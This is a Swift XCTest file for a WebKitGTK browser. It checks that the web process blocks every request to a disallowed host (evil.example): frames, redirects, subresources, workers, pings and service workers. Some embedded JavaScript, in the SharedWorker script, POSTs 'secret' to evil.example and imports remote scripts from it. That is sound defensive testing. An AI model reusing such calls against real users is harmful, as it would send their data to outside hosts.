// The second layer on its own: the UI process allows every navigation, and the web process
// extension alone must keep requests to blocked hosts from leaving. Judged by what the proxying
// test server received, synced on later requests it sees.
import CWebKitGtk
import GLibBridge
import PortholeCore
import PortholeUI
import TestSupport
import XCTest

private func page(_ title: String, _ body: String = "") -> String {
    "<!DOCTYPE html><html><head><title>\(title)</title></head><body><h1>\(title)</h1>\(body)</body></html>"
}

/// Every kind of subresource a page can load from `host`, each on its own path.
private func subresources(from host: String) -> String {
    """
    <link rel=stylesheet href="http://\(host)/style.css">
    <style>@font-face { font-family: F; src: url(http://\(host)/font.woff) } .f { font-family: F }</style>
    <span class=f>text</span>
    <img src="http://\(host)/image.png">
    <script src="http://\(host)/script.js"></script>
    <video src="http://\(host)/video.mp4" preload=auto muted></video>
    <script>
    fetch('http://\(host)/fetch').catch(() => {});
    var x = new XMLHttpRequest(); x.open('GET', 'http://\(host)/xhr'); x.send();
    navigator.sendBeacon('http://\(host)/beacon', 'x');
    try { new WebSocket('ws://\(host)/ws'); } catch (e) {}
    </script>
    """
}

private let subresourcePaths = ["/style.css", "/font.woff", "/image.png", "/script.js", "/video.mp4", "/fetch", "/xhr", "/beacon", "/ws"]

/// A window whose UI-process decisions allow everything, on a proxy that answers for apple.com,
/// www.apple.com and evil.example; the web processes enforce apple.com only.
@MainActor
private final class Fixture {
    let server = TestServer()
    let window: BrowserWindow
    private(set) var events: [PageNotice] = []

    init(subresources: SubresourcePolicy = .allow, routes: [String: TestResponse] = [:], renewSession: Bool = false) {
        server.route = { request in
            if let response = routes["\(request.host)\(request.path)"] { return response }
            switch request.path {
            case "/style.css": return .body("h1 { color: red }", mimeType: "text/css")
            case "/script.js": return .body("var loaded = 1;", mimeType: "text/javascript")
            case "/image.png", "/font.woff", "/video.mp4": return .body("x", mimeType: "application/octet-stream")
            default: return .html(page("\(request.host)\(request.path)"))
            }
        }
        if renewSession { TestApp.engine.renewSession() }
        TestApp.engine.setProxy(server.proxyURI)
        window = TestApp.window(sites: [Site(name: "Apple", address: "http://apple.com/")], decide: { _ in .allowed("the test lets the web process decide alone") })
        window.onEvent = { [unowned self] event in self.events.append(event) }
        TestApp.engine.webProcessPolicy = WebProcessPolicy(sites: [Site(name: "Apple", address: "http://apple.com/")],
                                                           subresources: subresources)
    }

    func requests(host: String) -> [String] { server.requests.filter { $0.host == host }.map(\.path) }

    func open(_ path: String = "/") {
        window.load(url: "http://apple.com\(path)")
        XCTAssertTrue(UI.wait { self.server.count(path: path, host: "apple.com") > 0 && !self.window.state.isLoading },
                      "apple.com\(path) loads")
    }

    /// Waits until the server has seen `path` on apple.com: everything the page asked for before
    /// it has been sent or refused by then.
    func sync(_ path: String) {
        XCTAssertTrue(UI.wait { self.server.count(path: path, host: "apple.com") > 0 }, "the sentinel \(path) arrives")
    }

    /// Runs `navigate` and waits until the load it starts has ended: when the web process cancels
    /// a main-frame request in send-request, WebKit commits about:blank instead (or, for a
    /// redirect hop, stops on the page before).
    func expectEndedLoad(_ what: String, _ navigate: () -> Void) {
        let before = events.count
        navigate()
        XCTAssertTrue(UI.wait {
            let new = Array(self.events.dropFirst(before))
            guard let start = new.firstIndex(of: .loadStarted) else { return false }
            return new[start...].contains(.loading(false))
        }, "\(what) ends; events: \(events.dropFirst(before))")
    }

    func tearDown() {
        TestApp.close(window)
        TestApp.engine.setProxy(nil)
        server.stop()
    }
}

final class WebProcessGuardTests: XCTestCase {
    func testFramesToABlockedHostNeverLeaveWhenOnlyTheWebProcessDecides() {
        MainActor.assumeIsolated {
            let fixture = Fixture(routes: [
                "apple.com/": .html(page("Apple", """
                    <iframe src="http://evil.example/frame"></iframe>
                    <iframe src="http://apple.com/hop"></iframe>
                    <script>addEventListener('load', () => {
                      var f = document.createElement('iframe'); f.src = 'http://apple.com/sentinel'; document.body.appendChild(f);
                    })</script>
                    """)),
                "apple.com/hop": .redirect(302, to: "http://evil.example/redirected-frame"),
            ])
            defer { fixture.tearDown() }
            fixture.open()
            fixture.sync("/sentinel")
            XCTAssertEqual(fixture.server.count(path: "/hop", host: "apple.com"), 1, "the allowed first hop went out")
            XCTAssertEqual(fixture.requests(host: "evil.example"), [])
        }
    }

    func testLinksAndRedirectsToABlockedHostNeverLeaveWhenOnlyTheWebProcessDecides() {
        MainActor.assumeIsolated {
            let fixture = Fixture(routes: [
                "apple.com/": .html(page("Apple", "<a id=l href='http://evil.example/link'>evil</a><a id=r href='/hop'>hop</a>")),
                "apple.com/hop": .redirect(302, to: "http://evil.example/redirected"),
            ])
            defer { fixture.tearDown() }
            fixture.open()
            fixture.expectEndedLoad("a link") { UI.evaluate("document.getElementById('l').click(); 'ok'", in: fixture.window) }
            fixture.open()
            fixture.expectEndedLoad("a redirect") { UI.evaluate("document.getElementById('r').click(); 'ok'", in: fixture.window) }
            XCTAssertEqual(fixture.server.count(path: "/hop", host: "apple.com"), 1, "the allowed first hop went out")
            fixture.expectEndedLoad("a typed address") { fixture.window.load(url: "http://evil.example/typed") }
            XCTAssertEqual(fixture.requests(host: "evil.example"), [])
        }
    }

    func testSubresourcesFromABlockedHostAreRefusedWithSubresourcesPolicy() {
        MainActor.assumeIsolated {
            let fixture = Fixture(subresources: .policy, routes: [
                "apple.com/": .html(page("Apple", subresources(from: "evil.example") + subresources(from: "www.apple.com"))),
            ])
            defer { fixture.tearDown() }
            fixture.open()
            XCTAssertTrue(UI.wait { Set(fixture.requests(host: "www.apple.com")).isSuperset(of: subresourcePaths) },
                          "every allowed subresource arrives; got \(fixture.requests(host: "www.apple.com"))")
            fixture.window.load(url: "http://apple.com/sentinel")
            fixture.sync("/sentinel")
            XCTAssertEqual(fixture.requests(host: "evil.example"), [])
        }
    }

    /// WebKit paths that bypass send-request (issue 20, item 3): a SharedWorker's fetch, XHR,
    /// EventSource and importScripts, and an `<a ping>` to an approved URL that answers 307 to
    /// the blocked host (followed in the network process).
    func testWorkersAndPingsReachNoBlockedHostWithSubresourcesPolicy() {
        MainActor.assumeIsolated {
            let worker = """
                onconnect = function(e) {
                  try { importScripts('http://evil.example/imported.js'); } catch (x) {}
                  fetch('http://evil.example/shared-fetch', {method: 'POST', body: 'secret'}).catch(function(){});
                  var x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/shared-xhr'); x.send();
                  try { new EventSource('http://evil.example/shared-events'); } catch (x) {}
                  fetch('/worker-sentinel').then(function(){ e.ports[0].postMessage('started'); }, function(){ e.ports[0].postMessage('started'); });
                };
                """
            let fixture = Fixture(subresources: .policy, routes: [
                "apple.com/": .html(page("Apple", """
                    <a id=p href='/after-ping' ping='/ping'>ping</a>
                    <script>
                    var started = 'no';
                    try { var w = new SharedWorker('/worker.js'); w.port.onmessage = function(){ started = 'yes'; }; w.port.start(); }
                    catch (x) { started = 'refused'; }
                    </script>
                    """)),
                "apple.com/worker.js": .body(worker, mimeType: "text/javascript"),
                "apple.com/ping": .redirect(307, to: "http://evil.example/pinged"),
            ])
            defer { fixture.tearDown() }
            fixture.open()
            // The worker runs (and has sent its requests: its sentinel came after them), or cannot start.
            var started = "no"
            XCTAssertTrue(UI.wait { started = UI.evaluate("started", in: fixture.window) ?? "no"; return started != "no" })
            if started == "yes" { fixture.sync("/worker-sentinel") }
            UI.evaluate("document.getElementById('p').click(); 'ok'", in: fixture.window)
            XCTAssertTrue(UI.wait { fixture.server.count(path: "/after-ping", host: "apple.com") > 0 }, "the link itself is followed")
            fixture.window.load(url: "http://apple.com/sentinel")
            fixture.sync("/sentinel")
            XCTAssertEqual(fixture.requests(host: "evil.example"), [], "nothing reached the blocked host")
            XCTAssertEqual(fixture.server.count(path: "/ping", host: "apple.com"), 0, "no ping was sent")
            XCTAssertEqual(started, "refused", "no SharedWorker starts")
        }
    }

    func testSubresourcesFromABlockedHostStillLoadWithSubresourcesAllow() {
        MainActor.assumeIsolated {
            let fixture = Fixture(subresources: .allow, routes: [
                "apple.com/": .html(page("Apple", subresources(from: "evil.example"))),
            ])
            defer { fixture.tearDown() }
            fixture.open()
            // Media is the exception: WebKit's media loader first asks send-request with no header at
            // all, which the web process cannot tell from a document, so it refuses it (fails closed).
            let expected = subresourcePaths.filter { $0 != "/video.mp4" }
            XCTAssertTrue(UI.wait { Set(fixture.requests(host: "evil.example")).isSuperset(of: expected) },
                          "every subresource but media arrives; got \(fixture.requests(host: "evil.example"))")
        }
    }

    /// Service workers run only in a secure context, which a page on 127.0.0.1 is (a proxied
    /// http://apple.com is not, so the test above cannot see them). A service worker's
    /// importScripts, install-time fetches and respondWith go through its own loader, outside
    /// send-request: with `subresources=policy` the page gets no `navigator.serviceWorker`, and
    /// the worker's script is never even asked for; with `allow` the same page registers it (so
    /// the test can fail).
    @MainActor private static func serviceWorker(_ subresources: SubresourcePolicy) -> (state: String, scriptRequests: Int) {
        let server = TestServer()
        defer { server.stop() }
        server.route = { request in
            switch request.path {
            case "/sw.js": return .body("try { importScripts('http://evil.example/imported.js'); } catch (x) {} self.oninstall = function(e) { e.waitUntil(fetch('http://evil.example/install').catch(function(){})); };",
                                        mimeType: "text/javascript")
            default: return .html(page("Local", """
                <script>
                var state = 'waiting';
                if (!('serviceWorker' in navigator)) { state = 'absent'; }
                else navigator.serviceWorker.register('/sw.js').then(function(){ state = 'registered'; }, function(e){ state = 'failed: ' + e; });
                </script>
                """))
            }
        }
        let local = Site(name: "Local", address: server.url("/"))
        let window = TestApp.window(sites: [local], decide: { _ in .allowed("the test lets the web process decide alone") })
        defer { TestApp.close(window) }
        TestApp.engine.webProcessPolicy = WebProcessPolicy(sites: [local], subresources: subresources)
        window.load(url: server.url("/"))
        var state = "waiting"
        XCTAssertTrue(UI.wait { state = UI.evaluate("state", in: window) ?? "waiting"; return state != "waiting" }, "the page says what became of its service worker")
        window.load(url: server.url("/sentinel"))
        XCTAssertTrue(UI.wait { server.count(path: "/sentinel") > 0 })
        return (state, server.count(path: "/sw.js"))
    }

    func testNoServiceWorkerWithSubresourcesPolicyInASecureContext() {
        MainActor.assumeIsolated {
            let contained = Self.serviceWorker(.policy)
            XCTAssertEqual(contained.state, "absent", "navigator.serviceWorker is not offered")
            XCTAssertEqual(contained.scriptRequests, 0, "the worker's script was never fetched")
            let open = Self.serviceWorker(.allow)
            XCTAssertEqual(open.state, "registered", "with subresources=allow the same page registers its worker")
            XCTAssertEqual(open.scriptRequests, 1)
        }
    }

    func testAReloadedPolicyReachesARunningWebProcess() {
        MainActor.assumeIsolated {
            let fixture = Fixture(subresources: .policy, routes: ["apple.com/": .html(page("Apple"))])
            defer { fixture.tearDown() }
            let apple = Site(name: "Apple", address: "http://apple.com/")
            TestApp.engine.webProcessPolicy = WebProcessPolicy(sites: [apple], allow: ["evil.example"], subresources: .policy)
            fixture.open()
            UI.evaluate("fetch('http://evil.example/before').catch(() => {}); 'ok'", in: fixture.window)
            XCTAssertTrue(UI.wait { fixture.requests(host: "evil.example") == ["/before"] }, "evil.example is allowed at first")
            // The configuration is reloaded without evil.example; the page stays and fetches again.
            TestApp.engine.webProcessPolicy = WebProcessPolicy(sites: [apple], subresources: .policy)
            UI.evaluate("fetch('http://evil.example/after').catch(() => {}); fetch('/sentinel'); 'ok'", in: fixture.window)
            fixture.sync("/sentinel")
            XCTAssertEqual(fixture.requests(host: "evil.example"), ["/before"])
        }
    }

    func testANewVisitorSessionsWebProcessesGetThePolicy() {
        MainActor.assumeIsolated {
            let fixture = Fixture(routes: [
                "apple.com/": .html(page("Apple", """
                    <iframe src="http://evil.example/frame"></iframe>
                    <script>addEventListener('load', () => fetch('/sentinel'))</script>
                    """)),
            ], renewSession: true)
            defer { fixture.tearDown() }
            fixture.open()
            fixture.sync("/sentinel")
            XCTAssertEqual(fixture.requests(host: "evil.example"), [])
        }
    }
}
